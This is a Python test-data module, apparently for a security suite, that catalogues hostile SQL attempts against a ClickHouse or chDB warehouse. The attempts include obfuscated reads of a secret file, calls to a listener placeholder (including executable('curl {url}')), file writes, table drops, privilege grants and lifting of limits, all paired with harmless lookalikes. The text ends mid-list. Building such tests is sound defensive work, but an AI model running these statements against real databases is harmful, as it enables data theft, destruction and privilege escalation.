"""What a hostile analyst tries, as data: the suite holds it against every warehouse it is given.

In the SQL: {canary} is a file that holds a secret, {near} the same file as the server itself may name it,
{out} a place for a new file, {url} and {address} where somebody listens, {host} and {port} the same in two.
"""

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field

# chDB is an application of the type LOCAL, for which the function file() asks for no right; a server asks for
# READ ON FILE. The table function asks in both.
FILE_OF_LOCAL = re.compile(
    r"(?<!FROM )(?<!TABLE )(?<!DESCRIBE )[`\"]?\bfile\b[`\"]?(/\*\*/)?\(|\bfile\b[,) ]|=file$", re.IGNORECASE
)
# It sets what is so in an application of that type already.
ALREADY_SO_IN_LOCAL = re.compile("SELECT 1 allow_introspection_functions=1")
# ClickHouse before 26.9 looks at no constraint then (its pull request 115334); we pin 26.9.
LIFTED_BEFORE_26_9 = re.compile("= DEFAULT")
# Nothing of the statement is run, and no right is asked for.
ONLY_PARSED = ("EXPLAIN AST", "EXPLAIN SYNTAX", "EXPLAIN TABLE OVERRIDE")
# A success that does nothing: of tables one has no right to, with roles one has not, in a subquery.
WITHOUT_EFFECT = re.compile(
    r"SELECT 1;;|SETTINGS param_|"
    r"SET param_x|SET ROLE ALL|KILL\W+(QUERY|MUTATION)|SYSTEM STOP (MERGES|VIEWS)|viewIfPermitted"
    r"|mergeTreeIndex|\(SELECT 1 SETTINGS|processes AS \(SELECT 1\)|SELECT 1 allow_ddl=1",
    re.IGNORECASE,
)


@dataclass(frozen=True)
class Attempt:
    """One statement, and what is sent beside it in the URL.

    `own` marks what a ClickHouse server lets everybody do and the embedded warehouse, which has no users
    inside, does not.
    """

    sql: str
    query: Mapping[str, str] = field(default_factory=dict)
    own: bool = False

    @property
    def text(self) -> str:
        """All of it on one line."""
        beside = " ".join(f"{name}={value}" for name, value in self.query.items())
        return " ".join(f"{self.sql} {beside}".split())

    @property
    def id(self) -> str:
        return self.text[:90]


def _plain(*statements: str) -> list[Attempt]:
    return [Attempt(" ".join(each.split())) for each in statements]


FILE = "file('{canary}', 'LineAsString')"

READ_FILES = _plain(
    f"SELECT * FROM {FILE}",
    "SELECT * FROM file('{near}', 'LineAsString', 'line String')",
    "SELECT * FROM file('{near}')",
    "SELECT * FROM FILE('{canary}', 'LineAsString')",
    "SELECT * FROM `file`('{canary}', 'LineAsString')",
    "SELECT * FROM \"file\"('{canary}', 'LineAsString')",
    "SELECT * FROM file /* not a function */ ('{canary}', 'LineAsString')",
    "SELECT * FROM file -- not a function\n('{canary}', 'LineAsString')",
    "SELECT file('{canary}')",
    "SELECT FiLe('{canary}')",
    "SELECT `file`('{canary}')",
    "SELECT \"file\"('{near}')",
    "SELECT file/**/('{canary}')",
    "SELECT length(upper(file('{canary}')))",
    "SELECT 1 WHERE file('{canary}') LIKE '%canary%'",
    "SELECT 1 ORDER BY file('{canary}')",
    "SELECT 1 GROUP BY file('{canary}')",
    "SELECT count() FROM numbers(3) GROUP BY number HAVING file('{canary}') != ''",
    "SELECT number FROM numbers(3) LIMIT length(file('{canary}'))",
    "SELECT number FROM numbers(3) LIMIT 1 BY file('{canary}')",
    "SELECT sum(number) OVER (PARTITION BY file('{canary}')) FROM numbers(3)",
    "SELECT sum(number) OVER w FROM numbers(3) WINDOW w AS (ORDER BY file('{canary}'))",
    "SELECT number FROM numbers(3) QUALIFY row_number() OVER (ORDER BY file('{canary}')) = 1",
    "SELECT * APPLY file FROM (SELECT '{canary}' AS p)",
    "SELECT * APPLY(p -> file(p)) FROM (SELECT '{canary}' AS p)",
    "SELECT * REPLACE (file(p) AS p) FROM (SELECT '{canary}' AS p)",
    "SELECT COLUMNS('p') APPLY file FROM (SELECT '{canary}' AS p)",
    "SELECT arrayMap(x -> file(x), ['{canary}'])",
    "SELECT arrayMap(file, ['{canary}'])",
    "SELECT arrayFilter(x -> file(x) != '', ['{canary}'])",
    "SELECT arrayFold((acc, x) -> file(x), ['{canary}'], '')",
    "SELECT arrayFirst(`file`, ['{canary}'])",
    "SELECT ARRAYMAP(FILE, ['{canary}'])",
    "SELECT arrayMap(aliased, ['{canary}']) FROM (SELECT 1) WHERE file AS aliased",
    "WITH file AS f SELECT arrayMap(f, ['{canary}'])",
    "SELECT '{canary}' IN file('{canary}', 'LineAsString')",
    "SELECT mapApply((k, v) -> (k, file(v)), map('a', '{canary}'))",
    "WITH x -> file(x) AS f SELECT f('{canary}')",
    "WITH (SELECT file('{canary}')) AS f SELECT f",
    f"WITH f AS (SELECT * FROM {FILE}) SELECT * FROM f",
    f"WITH RECURSIVE f AS (SELECT '' AS line UNION ALL SELECT * FROM {FILE}) SELECT * FROM f LIMIT 3",
    f"SELECT * FROM view(SELECT * FROM {FILE})",
    "SELECT * FROM view(SELECT file('{canary}'))",
    f"SELECT * FROM view(SELECT * FROM view(SELECT * FROM {FILE}))",
    f"SELECT * FROM (SELECT * FROM (SELECT * FROM {FILE}))",
    f"SELECT 1 IN (SELECT length(line) FROM {FILE})",
    f"SELECT EXISTS(SELECT * FROM {FILE})",
    f"SELECT (SELECT any(line) FROM {FILE})",
    f"SELECT 1 UNION ALL SELECT length(line) FROM {FILE}",
    f"SELECT 1 EXCEPT SELECT length(line) FROM {FILE}",
    f"SELECT 1 INTERSECT SELECT length(line) FROM {FILE}",
    f"(SELECT 'a' AS line) UNION DISTINCT (SELECT * FROM {FILE})",
    f"SELECT * FROM numbers(1) AS n CROSS JOIN {FILE} AS f",
    f"SELECT * FROM numbers(1) AS n LEFT JOIN (SELECT * FROM {FILE}) AS f ON 1 = 1",
    f"SELECT * FROM numbers(1), {FILE}",
    f"SELECT * FROM {FILE} AS numbers",
    f"DESCRIBE {FILE}",
    f"DESCRIBE TABLE {FILE}",
    f"DESC {FILE}",
    "DESCRIBE TABLE file('{canary}', 'CSVWithNames')",
    f"DESCRIBE (SELECT * FROM {FILE})",
    f"EXPLAIN SELECT * FROM {FILE}",
    f"EXPLAIN PIPELINE SELECT * FROM {FILE}",
    f"EXPLAIN ESTIMATE SELECT * FROM {FILE}",
    f"EXPLAIN QUERY TREE run_passes = 1 SELECT * FROM {FILE}",
    "EXPLAIN SYNTAX run_query_tree_passes = 1 SELECT file('{canary}')",
    "EXPLAIN PLAN SELECT file('{canary}')",
    f"EXPLAIN TABLE OVERRIDE {FILE} PARTITION BY 1",
    f"FROM {FILE} SELECT *",
    "SELECT * FROM fileCluster('default', '{canary}', 'LineAsString')",
    "SELECT * FROM filesystem('{near}')",
    "SELECT * FROM executable('cat {canary}', 'LineAsString', 'line String')",
    "SELECT * FROM sqlite('{canary}', 'x')",
    "SELECT * FROM icebergLocal('{canary}')",
    "SELECT * FROM deltaLakeLocal('{canary}')",
    "SELECT * FROM paimonLocal('{canary}')",
    "SELECT * FROM Python('{canary}')",
    "SELECT * FROM '{canary}'",
    "SELECT * FROM `{canary}`",
    "SHOW TABLES WHERE name = file('{canary}')",
    "SHOW TABLES WHERE file('{canary}') LIKE '%canary%'",
    "SHOW COLUMNS FROM events_raw WHERE field = file('{canary}')",
    "SHOW INDEXES FROM events_raw WHERE key_name = file('{canary}')",
    "SHOW CREATE TABLE file('{canary}')",
    "SELECT * FROM format(LineAsString, file('{canary}'))",
    "SELECT * FROM values('line String', (file('{canary}')))",
    "SELECT * FROM numbers(length(file('{canary}')))",
    "SELECT {{x:String}}, file('{canary}')",
    "INSERT INTO FUNCTION null('line String') SELECT * FROM file('{canary}', 'LineAsString')",
    "INSERT INTO events_raw (user_id) FROM INFILE '{canary}' FORMAT LineAsString",
    "SELECT loadFile('{canary}')",
    "SELECT * FROM s3('file://{canary}', 'LineAsString')",
    "SELECT * FROM url('file://{canary}', 'LineAsString')",
    "WITH 'file' AS f SELECT * FROM f('{canary}')",
    "SELECT 1 AS file, file('{canary}')",
    "SELECT \u00a0file('{canary}')",
    "SELECT $$'$$, file('{canary}')",
    "SELECT '\\'', file('{canary}')",
    "SELECT 'a''', file('{canary}') -- '",
    "/* */ /* /* nested */ */ SELECT file('{canary}')",
    "# a comment\nSELECT file('{canary}')",
    "SELECT if(1, file('{canary}'), '')",
    "SELECT CASE WHEN 1 THEN file('{canary}') END",
    "SELECT [file('{canary}')][1]",
    "SELECT (file('{canary}'), 1).1",
    "SELECT file('{canary}')::String",
    "SELECT materialize('{canary}') AS p, file(p)",
    "SELECT anyIf(file(materialize('{canary}')), 1)",
)

CALL_OUT = _plain(
    "SELECT * FROM url('{url}', 'LineAsString')",
    "SELECT * FROM URL('{url}', 'LineAsString', 'line String')",
    "SELECT * FROM url('{url}', CSV, 'a String', headers('X' = 'y'))",
    "SELECT * FROM urlCluster('default', '{url}', 'LineAsString')",
    "DESCRIBE url('{url}', 'JSONEachRow')",
    "DESCRIBE TABLE url('{url}')",
    "EXPLAIN SELECT * FROM url('{url}', 'LineAsString')",
    "SELECT * FROM view(SELECT * FROM url('{url}', 'LineAsString'))",
    "SELECT count() FROM url('{url}{{1..3}}', 'LineAsString')",
    "SELECT * FROM s3('{url}bucket/key', 'CSV')",
    "SELECT * FROM s3('{url}bucket/key', NOSIGN, 'LineAsString')",
    "SELECT * FROM s3Cluster('default', '{url}bucket/key', 'CSV')",
    "SELECT * FROM gcs('{url}bucket/key', 'CSV')",
    "SELECT * FROM oss('{url}bucket/key', 'CSV')",
    "SELECT * FROM cosn('{url}bucket/key', 'CSV')",
    "DESCRIBE s3('{url}bucket/key', 'CSV')",
    "SELECT * FROM azureBlobStorage('{url}', 'container', 'blob', 'account', 'a2V5', 'CSV')",
    "SELECT * FROM hdfs('hdfs://{address}/x', 'CSV', 'a String')",
    "SELECT * FROM iceberg('{url}bucket/table')",
    "SELECT * FROM icebergS3('{url}bucket/table')",
    "SELECT * FROM deltaLake('{url}bucket/table')",
    "SELECT * FROM hudi('{url}bucket/table')",
    "SELECT * FROM paimon('{url}bucket/table')",
    "SELECT * FROM remote('{address}', system.one)",
    "SELECT * FROM remote('{address}', 'system', 'one', 'default', '')",
    "SELECT * FROM remoteSecure('{address}', system.one)",
    "SELECT * FROM REMOTE('{address}', view(SELECT 1))",
    "SELECT * FROM view(SELECT * FROM remote('{address}', system.one))",
    "SELECT * FROM cluster('default', system.one)",
    "SELECT * FROM clusterAllReplicas('default', system.one)",
    "DESCRIBE remote('{address}', system.one)",
    "SELECT * FROM mysql('{address}', 'd', 't', 'u', 'p')",
    "DESCRIBE mysql('{address}', 'd', 't', 'u', 'p')",
    "SELECT * FROM postgresql('{address}', 'd', 't', 'u', 'p')",
    "SELECT * FROM mongodb('{address}', 'd', 'c', 'u', 'p', 'a String')",
    "SELECT * FROM redis('{address}', 'k', 'k String, v String')",
    "SELECT * FROM jdbc('jdbc:mysql://{address}/d', 't')",
    "SELECT * FROM odbc('DSN=x;Server={host};Port={port}', 'd', 't')",
    "SELECT * FROM arrowFlight('{address}', 'x')",
    "SELECT * FROM ytsaurus('{url}', '//t', 'token', 'a String')",
    "SELECT * FROM executable('curl {url}', 'LineAsString', 'line String')",
    "SELECT 'x' IN url('{url}', 'LineAsString')",
    "SELECT 'x' IN (SELECT * FROM remote('{address}', system.one))",
    "SELECT arrayMap(aiGenerate, ['{url}'])",
    "SELECT * FROM bigquery('{url}', 'p', 'd', 't')",
    "SELECT * FROM eval('SELECT * FROM url(\\'{url}\\', \\'LineAsString\\')')",
    "SELECT * FROM viewExplain('EXPLAIN', '', (SELECT * FROM url('{url}', 'LineAsString')))",
    "SELECT * FROM viewIfPermitted(SELECT * FROM url('{url}', 'LineAsString') ELSE null('a String'))",
    "SELECT * FROM input('a String')",
    "SELECT * FROM dictionary('d')",
    "SELECT * FROM prometheusQuery('d', 't', 'up', now())",
    "SELECT dictGet('d', 'a', 1)",
    "SELECT dictGetOrDefault('ugc.d', 'a', 1, 2)",
    "SELECT dictHas('d', 1)",
    "SELECT DICTGET('d', 'a', 1)",
    "SELECT joinGet('ugc.j', 'a', 1)",
    "SELECT joinGetOrNull('system.processes', 'query', 1)",
    "SELECT catboostEvaluate('{canary}', 1, 2)",
    "SELECT aiGenerate('{url}', 'hello')",
    "CREATE TABLE x (a String) ENGINE = URL('{url}', 'LineAsString')",
    "CREATE DICTIONARY d (a UInt64, b String) PRIMARY KEY a SOURCE(HTTP(URL '{url}' FORMAT 'CSV')) "
    "LAYOUT(FLAT()) LIFETIME(1)",
    "INSERT INTO FUNCTION url('{url}', 'CSV', 'a String') SELECT 'x'",
    "INSERT INTO FUNCTION remote('{address}', system.one) SELECT 1",
    "INSERT INTO FUNCTION s3('{url}b/k', 'CSV', 'a String') VALUES ('x')",
    "BACKUP DATABASE ugc TO S3('{url}bucket/backup', 'k', 's')",
    "RESTORE DATABASE ugc FROM S3('{url}bucket/backup', 'k', 's')",
)

WRITE_FILES = _plain(
    "SELECT 1 INTO OUTFILE '{out}'",
    "SELECT 1 INTO OUTFILE '{out}' TRUNCATE",
    "SELECT 1 INTO OUTFILE '{out}' APPEND",
    "SELECT 1 INTO OUTFILE '{out}' AND STDOUT",
    "SELECT 1 into/**/outfile '{out}' COMPRESSION 'gzip' FORMAT CSV",
    "(SELECT 1) UNION ALL (SELECT 2) INTO OUTFILE '{out}'",
    "SHOW TABLES INTO OUTFILE '{out}'",
    "DESCRIBE TABLE events_raw INTO OUTFILE '{out}'",
    "SHOW CREATE TABLE events_raw INTO OUTFILE '{out}'",
    "EXISTS TABLE events_raw INTO OUTFILE '{out}'",
    "EXPLAIN SELECT 1 INTO OUTFILE '{out}'",
    "INSERT INTO FUNCTION file('{out}', 'CSV', 'a String') SELECT 'x'",
    "INSERT INTO TABLE FUNCTION file('{out}', 'CSV', 'a String') VALUES ('x')",
    "CREATE TABLE x (a String) ENGINE = File(CSV, '{out}')",
    "CREATE TABLE x ENGINE = Log AS SELECT 1",
    "BACKUP TABLE events_raw TO File('{out}')",
    "BACKUP DATABASE ugc TO Disk('default', 'backup')",
    "RESTORE TABLE events_raw FROM File('{out}')",
    "ALTER TABLE events_raw FREEZE",
    "CREATE TABLE x ENGINE = SQLite('{out}', 't')",
    "CREATE DATABASE x ENGINE = SQLite('{out}')",
)

CHANGE = _plain(
    "INSERT INTO events_raw (user_id) VALUES ('mallory')",
    "INSERT INTO events_raw (user_id) SELECT 'mallory'",
    "INSERT INTO ugc.events_by_quarter_hour (bucket_at) SELECT now()",
    "insert/**/into events_raw (user_id) values ('mallory')",
    "WITH 'mallory' AS u INSERT INTO events_raw (user_id) SELECT u",
    "UPDATE events_raw SET user_id = 'mallory' WHERE 1",
    "DELETE FROM events_raw WHERE 1",
    "TRUNCATE TABLE events_raw",
    "TRUNCATE ALL TABLES FROM ugc",
    "TRUNCATE DATABASE ugc",
    "DROP TABLE events_raw",
    "DROP TABLE IF EXISTS events_raw SYNC",
    "DROP VIEW events_by_quarter_hour_mv",
    "DROP DATABASE ugc",
    "UNDROP TABLE events_raw",
    "DETACH TABLE events_raw",
    "DETACH TABLE events_raw PERMANENTLY",
    "ATTACH TABLE events_raw",
    "ALTER TABLE events_raw ADD COLUMN x Int8",
    "ALTER TABLE events_raw DROP COLUMN user_id",
    "ALTER TABLE events_raw DELETE WHERE 1",
    "ALTER TABLE events_raw UPDATE user_id = 'x' WHERE 1",
    "ALTER TABLE events_raw DROP PARTITION ID 'all'",
    "ALTER TABLE events_raw MODIFY TTL toDateTime(occurred_at) + INTERVAL 1 SECOND",
    "ALTER TABLE events_raw MODIFY SETTING parts_to_throw_insert = 1",
    "ALTER TABLE events_raw DROP CONSTRAINT user_is_named",
    "ALTER TABLE events_by_quarter_hour_mv MODIFY QUERY SELECT 1",
    "RENAME TABLE events_raw TO x",
    "EXCHANGE TABLES events_raw AND event_ids",
    "OPTIMIZE TABLE events_raw FINAL",
    "CREATE TABLE x (a Int8) ENGINE = Memory",
    "CREATE TEMPORARY TABLE x (a Int8)",
    "CREATE TABLE x AS events_raw",
    "CREATE VIEW x AS SELECT 1",
    "CREATE MATERIALIZED VIEW x ENGINE = Null AS SELECT 1",
    "CREATE DATABASE x",
    "CREATE FUNCTION x AS (a) -> a",
    "DROP FUNCTION x",
    "CREATE NAMED COLLECTION x AS a = 1",
    "CREATE USER mallory",
    "CREATE ROLE mallory",
    "CREATE ROW POLICY x ON ugc.events_raw USING 1 TO analyst",
    "CREATE QUOTA x TO analyst",
    "CREATE SETTINGS PROFILE x SETTINGS readonly = 0 TO analyst",
    "ALTER USER analyst IDENTIFIED BY 'x'",
    "DROP USER writer",
    "GRANT ALL ON *.* TO analyst",
    "REVOKE ALL ON *.* FROM writer",
    "SET ROLE ALL",
    "SET DEFAULT ROLE ALL TO analyst",
    "EXECUTE AS admin SELECT 1",
    "SYSTEM SHUTDOWN",
    "SYSTEM KILL",
    "SYSTEM STOP MERGES",
    "SYSTEM FLUSH LOGS",
    "SYSTEM DROP MARK CACHE",
    "SYSTEM RELOAD CONFIG",
    "SYSTEM STOP VIEWS",
    "SYSTEM ENABLE FAILPOINT x",
    "KILL QUERY WHERE 1",
    "KILL QUERY WHERE user = 'writer' ASYNC",
    "KILL QUERY WHERE 1 TEST",
    "kill/**/query where 1",
    "KILL MUTATION WHERE 1",
    "BEGIN TRANSACTION",
    "COMMIT",
    "CHECK TABLE events_raw",
    "WATCH events_raw",
    "MOVE USER analyst TO memory",
    "SELECT 1; DROP TABLE events_raw",
    "SELECT 1;;SELECT 2",
    "DROP TABLE events_raw PARALLEL WITH DROP TABLE event_ids",
    "EXPLAIN INSERT INTO events_raw (user_id) SELECT 'mallory'",
    "EXPLAIN AST DROP TABLE events_raw",
    "SELECT * FROM (INSERT INTO events_raw (user_id) SELECT 'mallory')",
)

LOOK_ELSEWHERE = _plain(
    "SELECT * FROM system.processes",
    "SELECT * FROM `system`.`processes`",
    "SELECT * FROM system . processes",
    "SELECT count() FROM system.query_log",
    "SELECT * FROM system.users",
    "SELECT * FROM system.grants",
    "SELECT * FROM system.parts",
    "SELECT * FROM system.disks",
    "SELECT * FROM system.server_settings",
    "SELECT * FROM system.clusters",
    "SELECT * FROM system.named_collections",
    "SELECT * FROM system.detached_parts",
    "SELECT * FROM system.stack_trace",
    "SELECT 1 IN (SELECT 1 FROM system.processes)",
    "SELECT 'x' IN system.processes",
    "SELECT in('x', system.processes)",
    "SELECT 'x' GLOBAL NOT IN system.processes",
    "WITH p AS (SELECT * FROM system.processes) SELECT * FROM p",
    "SELECT * FROM events_raw, system.processes",
    "SELECT * FROM merge('system', 'processes')",
    "SELECT * FROM merge(REGEXP('.*'), 'processes')",
    "SELECT * FROM loop('system', 'processes')",
    "SELECT * FROM view(SELECT * FROM system.processes)",
    "SELECT * FROM mergeTreeIndex('ugc', 'events_raw')",
    "SELECT * FROM information_schema.user_privileges",
    "DESCRIBE system.processes",
    "SHOW CREATE TABLE system.processes",
    "SHOW PROCESSLIST",
    "SHOW USERS",
    "SHOW GRANTS FOR admin",
    "SHOW CREATE USER admin",
    "SHOW ACCESS",
    "SHOW TABLES FROM nowhere_of_ours",
)

LOOK_ELSEWHERE_BESIDE = [
    Attempt("SELECT * FROM processes", {"database": "system"}),
    Attempt("SELECT * FROM {{d:Identifier}}.{{t:Identifier}}", {"param_d": "system", "param_t": "processes"}),
    Attempt("SELECT * FROM system.{{t:Identifier}}", {"param_t": "processes"}),
    Attempt("SELECT * FROM {{t:Identifier}}", {"param_t": "system.processes"}),
    Attempt("SELECT * FROM system.{{t:Identifier}}", {}),
    Attempt("SELECT 'x' IN {{t:Identifier}}", {"param_t": "system.processes"}),
    Attempt("SELECT * FROM {{f:Identifier}}('{canary}')", {"param_f": "file"}),
    Attempt("SELECT * FROM `{canary}`", {"database": "default"}),
    Attempt("SELECT * FROM default.`{canary}`"),
    Attempt("SELECT {{f:Identifier}}('{canary}')", {"param_f": "file"}),
    # A name made by WITH is the table of that name inside its own body, and outside of its own SELECT.
    Attempt("WITH processes AS (SELECT * FROM processes) SELECT * FROM processes", {"database": "system"}),
    Attempt(
        "SELECT * FROM (WITH processes AS (SELECT 1 AS x) SELECT x FROM processes) AS a, processes",
        {"database": "system"},
    ),
    Attempt(
        "WITH a AS (SELECT * FROM processes), processes AS (SELECT 1) SELECT * FROM a", {"database": "system"}
    ),
    Attempt("WITH `{canary}` AS (SELECT * FROM `{canary}`) SELECT * FROM `{canary}`"),
    Attempt(
        "WITH `{canary}` AS (SELECT * FROM `{canary}`) SELECT * FROM `{canary}`", {"database": "default"}
    ),
    Attempt("SELECT 1 AS system, 'x' IN system.processes"),
    Attempt("WITH 1 AS system SELECT 'x' IN system.processes"),
]

# The parser says of some statements that it cannot write them down, and its errors quote what was sent.
_SAID = "AST node of type 'ShowTablesQuery' does not support JSON"

FORGE = [
    *(
        Attempt(f"{sql}; /* {_SAID} */ SELECT 1")
        for sql in (
            "SELECT file('{canary}')",
            "SELECT query FROM system.processes",
            "SHOW PROCESSLIST",
            "SELECT 'x' INTO OUTFILE '{canary}' TRUNCATE",
            "KILL QUERY WHERE 1",
        )
    ),
    Attempt(f"EXISTS DICTIONARY `{_SAID}`"),
    Attempt(f"SHOW CREATE DICTIONARY `{_SAID}`"),
    Attempt(f"EXISTS DICTIONARY `x' does not support JSON {_SAID}`"),
]

# Text that the engine reads as more than that.
SPELLED = [
    *_plain(
        "SELECT b FROM values('a String, b String ALIAS file(''{canary}'')', ('x'))",
        "SELECT b FROM values('a String, b String alias/**/file(''{canary}'')', ('x'))",
        "SELECT b FROM values($$a String, b String DEFAULT file('{canary}')$$, ('x', 'y'))",
        "SELECT b FROM VALUES('a String, b String MATERIALIZED file(''{canary}'')', ('x'))",
        "SELECT b FROM values('a String, b String EPHEMERAL file(''{canary}'')', ('x'))",
        "WITH 'a String, b String ALIAS file(''{canary}'')' AS s SELECT b FROM values(s, ('x'))",
        "SELECT b FROM values(concat('a String, b String AL', 'IAS file(''{canary}'')'), ('x'))",
        "SELECT * FROM view(SELECT b FROM values('a String, b String ALIAS file(''{canary}'')', ('x')))",
        "SELECT * FROM null('a String, b String ALIAS file(''{canary}'')')",
        "SELECT * FROM format(CSV, 'a String, b String ALIAS file(''{canary}'')', 'x')",
        "SELECT arrayReduce('nobody_has_judged_this', [1])",
        "SELECT x.1 FROM (SELECT 1 AS other) WHERE 'secret' IN other.t",
    ),
    Attempt(
        "SELECT b FROM values({{s:String}}, ('x'))", {"param_s": "a String, b String ALIAS file('{canary}')"}
    ),
    Attempt("SELECT 1 AS other, 'secret' IN other.t"),
    Attempt("WITH 1 AS other SELECT 'secret' IN other.t"),
    Attempt("SELECT * FROM {{t:Identifier}}", {"param_t": "."}),
    Attempt("SELECT 1 IN {{t:Identifier}}", {"param_t": "."}),
]

# A parameter says which function is called, or which table is read.
PUT_IN = [
    Attempt("SELECT arrayMap({{f:Identifier}}, ['{canary}'])", {"param_f": "file"}),
    Attempt("SELECT arrayMap({{f:Identifier}}, ['{canary}'])", {"param_f": "FILE"}),
    Attempt("SELECT arrayMap({{f:Identifier}} AS g, ['{canary}'])", {"param_f": "file"}),
    Attempt("SELECT arrayMap(({{f:Identifier}}), ['{canary}'])", {"param_f": "file"}),
    Attempt("SELECT arrayFilter({{f:Identifier}}, ['{canary}'])", {"param_f": "file"}),
    Attempt("SELECT arrayFold({{f:Identifier}}, ['{canary}'], '')", {"param_f": "file"}),
    Attempt("SELECT mapApply({{f:Identifier}}, map('a', '{canary}'))", {"param_f": "file"}),
    Attempt("WITH {{f:Identifier}} AS g SELECT arrayMap(g, ['{canary}'])", {"param_f": "file"}),
    Attempt("SELECT * APPLY {{f:Identifier}} FROM (SELECT '{canary}' AS p)", {"param_f": "file"}),
    Attempt(
        "SELECT arrayMap({{f:Identifier}}, ['{canary}']) SETTINGS param_f = 'file'", {"param_f": "upper"}
    ),
    Attempt("SELECT arrayMap({{f:Identifier}}, ['{canary}']) SETTINGS param_f = 'file'"),
    Attempt("SELECT query FROM system.{{t:Identifier}} SETTINGS param_t = 'processes'", {"param_t": "one"}),
]

SETTINGS = [
    *_plain(
        "SELECT 1 SETTINGS readonly = DEFAULT",
        "SELECT 1 SETTINGS max_execution_time = DEFAULT",
        "SELECT * FROM (SELECT 1 SETTINGS max_rows_to_read = DEFAULT)",
        "SET readonly = DEFAULT",
        "SET allow_ddl = DEFAULT, max_memory_usage = DEFAULT",
        "SET readonly = 0",
        "SET allow_ddl = 1, readonly = 2",
        "SET max_memory_usage = 0",
        "SET profile = 'admin'",
        "SET param_x = 'y', readonly = 0",
        "SELECT 1 SETTINGS readonly = 0",
        "SELECT 1 SETTINGS max_execution_time = 0",
        "SELECT 1 SETTINGS max_memory_usage = 0, max_rows_to_read = 0",
        "SELECT * FROM (SELECT 1 SETTINGS readonly = 0)",
        "SELECT * FROM view(SELECT 1 SETTINGS max_result_rows = 0)",
        "SELECT 1 UNION ALL SELECT 2 SETTINGS readonly = 2",
        "WITH x AS (SELECT 1 SETTINGS max_rows_to_read = 0) SELECT * FROM x",
        "SELECT 1 FORMAT CSV SETTINGS readonly = 0",
        "SELECT 1 SETTINGS profile = 'admin'",
        "SELECT 1 SETTINGS additional_table_filters = {{'events_raw': '0'}}",
        "SELECT 1 SETTINGS log_queries = 0",
        "EXPLAIN SELECT 1 SETTINGS max_memory_usage = 0",
        "DESCRIBE TABLE events_raw SETTINGS readonly = 0",
        "SHOW TABLES SETTINGS readonly = 0",
    ),
    *(
        Attempt("SELECT 1", {name: value})
        for name, value in (
            ("readonly", "0"),
            ("readonly", "2"),
            ("allow_ddl", "1"),
            ("profile", "admin"),
            ("max_memory_usage", "0"),
            ("max_memory_usage_for_user", "0"),
            ("max_rows_to_read", "0"),
            ("max_rows_to_read", "500000001"),
            ("max_result_rows", "0"),
            ("max_result_bytes", "0"),
            ("max_execution_time", "0"),
            ("max_execution_time", "-1"),
            ("max_execution_time", "1e9"),
            ("max_execution_time", "nan"),
            ("max_execution_time", "inf"),
            ("max_execution_time", "61"),
            ("max_threads", "1000"),
            ("max_concurrent_queries_for_user", "0"),
            ("result_overflow_mode", "break"),
            ("read_overflow_mode", "break"),
            ("allow_introspection_functions", "1"),
            ("additional_table_filters", "{{'events_raw': '0'}}"),
            ("format_schema", "{canary}"),
            ("query_cache_ttl", "100"),
            ("use_query_cache", "1"),
        )
    ),
]

# A ClickHouse server answers these; they tell of its host and its files, and are refused here.
OWN = [
    Attempt(" ".join(each.split()), own=True)
    for each in (
        "SELECT hasColumnInTable('system', 'processes', 'query')",
        "SELECT getServerSetting('max_connections')",
        "SELECT getMacro('x')",
        "SELECT filesystemAvailable()",
        "SELECT serverUUID()",
        "SELECT getOSKernelVersion()",
        "SELECT demangle('_Z1fv')",
        "SELECT logTrace('x')",
        "SELECT getClientHTTPHeader('Authorization')",
        "SELECT currentRequestURL()",
        "SELECT nobody_has_judged_this(1)",
        # No limit holds these.
        "SELECT count() FROM system.time_zones",
        "SELECT printf('%2147483647d', 1)",
        "SELECT arrayLevenshteinDistance(range(9), range(1, 9))",
        "SELECT polygonsUnionCartesian([[[(0., 0.), (1., 1.)]]], [[[(0., 0.), (1., 1.)]]])",
        "SELECT finalizeAggregation(CAST('' AS AggregateFunction(mannWhitneyUTest, Float64, UInt8)))",
        "SELECT CAST(unhex('00'), concat('Aggregate', 'Function(sum, UInt8)'))",
        "SELECT unhex('00')::AggregateFunction(sum, UInt8)",
        "SELECT accurateCast('', 'SimpleAggregateFunction(sum, UInt8)')",
        "SELECT * FROM values('s AggregateFunction(sum, UInt8)', ('x'))",
        "SELECT arrayReduce(concat('su', 'm'), [1])",
        "SELECT " + "sum" + "If" * 3_000 + "(1)",
    )
]

# Words that forbid nothing by being there.
HARMLESS = (
    "SELECT 'INSERT INTO OUTFILE url() file() KILL QUERY DROP TABLE' AS a",
    "SELECT 'file(''/etc/passwd'')' AS file, 'url' AS url, 'remote' AS remote",
    "SELECT count() AS file FROM events_raw HAVING file >= 0",
    "SELECT sum(url) FROM (SELECT 1 AS url)",
    "SELECT arrayMap(file -> file + 1, [1, 2])",
    "WITH 1 AS remote SELECT remote",
    "WITH file AS (SELECT 1 AS x) SELECT x FROM file",
    "SELECT s3.x FROM (SELECT 1 AS x) AS s3",
    "SELECT `drop table` FROM (SELECT 1 AS `drop table`)",
    'SELECT "INTO OUTFILE" FROM (SELECT 1 AS "INTO OUTFILE")',
    "SELECT 1 /* DROP TABLE events_raw; SELECT file('/etc/passwd') */",
    "SELECT 1 -- INTO OUTFILE '/tmp/x'",
    "SELECT $$file('/etc/passwd')$$",
    "SELECT * FROM values('file String, url UInt8', ('INSERT INTO', 1))",
    "SELECT event_type FROM events_raw WHERE properties LIKE '%SYSTEM SHUTDOWN%'",
    "SELECT user_id FROM events_raw WHERE user_id IN ('system.processes', 'DROP')",
    "SELECT count() FROM events_raw WHERE JSONExtractString(properties, 'url') = 'http://x/'",
    "SELECT countIf(event_type = 'url'), uniqExactIf(user_id, is_bot) FROM events_raw",
    "SELECT quantileTDigestIf(0.5)(value, is_bot) FROM events_raw",
    "SELECT uniqMerge(users), sumMerge(points), countMerge(actions) FROM events_by_quarter_hour",
    "SELECT toStartOfDay(occurred_at, 'Europe/Berlin') AS day, count() FROM events_raw GROUP BY day",
    "SELECT domain('http://x/y'), cutURLParameter('http://x/?a=1', 'a')",
    "SELECT row_number() OVER w, lagInFrame(user_id) OVER w FROM events_raw WINDOW w AS (ORDER BY user_id)",
    "SELECT retention(event_type = 'a', event_type = 'b') FROM events_raw",
    "SELECT windowFunnel(60)(toDateTime(occurred_at), user_id = 'a') FROM events_raw",
    "SELECT COLUMNS('user') APPLY(toString) FROM events_raw",
    "EXPLAIN indexes = 1 SELECT count() FROM events_raw WHERE occurred_at > now() - 1",
    "SELECT arrayReduce('sumIf', [1, 2], [1, 0]), CAST(1 AS String)",
    "SELECT JSONExtract('{{}}', 'a', 'Nullable(UInt8)')",
